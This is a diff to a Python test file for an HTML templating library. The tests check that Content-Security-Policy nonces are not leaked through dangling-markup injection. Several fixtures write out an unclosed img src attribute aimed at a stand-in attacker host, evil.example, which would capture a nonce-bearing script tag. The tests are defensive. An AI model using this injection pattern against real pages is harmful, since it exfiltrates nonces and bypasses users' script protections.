@@ -534,9 +534,6 @@ FOURTH = textwrap.dedent(
 
     def held_back [html] (tag, v):
         head() + "<" + tag + " src='" + v + app_js() + "'>"
-
-    def ends_held [html] ():
-        '<script src="/head.js"></script><'
     """
 )
 
@@ -546,13 +543,15 @@ def test_markup_holding_back_a_lone_lt_is_not_text() -> None:
     module = compiled(FOURTH, "csp_carrier_fourth")
     with nonce_scope(NONCE):
         out = sent(module.held_back("img", "https://evil.example/?"))
-        after = sent(
-            module.ends_held() + htmltext("img src='https://evil.example/?") + module.app_js()
-        )
+        ended = module.head() + htmltext("<")
+        after = sent(ended + htmltext("img src='https://evil.example/?") + module.app_js())
         before = sent(htmltext("<") + module.app_js())
     assert out.count(NONCE) == 1 and nonces(out)[0] == ("script", NONCE)
     assert after.count(NONCE) == 1
     assert NONCE not in before
+    # (a template may not end so: the compiler refuses it, fifth review, finding 1)
+    with pytest.raises(SyntaxError, match="ends in a lone '<'"):
+        compiled("def ends [html] ():\n    '<script></script><'\n", "csp_ends_held")
 
 
 def test_the_compiled_templates_join_is_not_public() -> None:
@@ -573,5 +572,20 @@ def test_items_joined_in_a_tstring_are_followed() -> None:
         items = [htmltext("<img src='"), "https://evil.example/?", module.app_js(), htmltext("'>")]
         leaked = sent(htmlformat(Template("<div>", _Interpolation(items), "</div>")))
         kept = sent(htmlformat(Template("<div>", _Interpolation([module.app_js()]), "</div>")))
+    assert NONCE not in leaked
+    assert kept.count(NONCE) == 1
+
+
+def test_nested_items_in_a_tstring_are_followed_through() -> None:
+    """Fifth review, finding 4: a list in a list is followed from where its parent is."""
+    from test_csp_nonces import Template, _Interpolation
+
+    from ptl_wsgi.html import htmlformat
+
+    module = compiled(FOURTH, "csp_carrier_nested_items")
+    with nonce_scope(NONCE):
+        items = [htmltext("<img src='"), ["https://evil.example/?", [module.app_js()]], "'>"]
+        leaked = sent(htmlformat(Template("<div>", _Interpolation(items), "</div>")))
+        kept = sent(htmlformat(Template("<div>", _Interpolation([[module.app_js()]]), "</div>")))
     assert NONCE not in leaked
     assert kept.count(NONCE) == 1
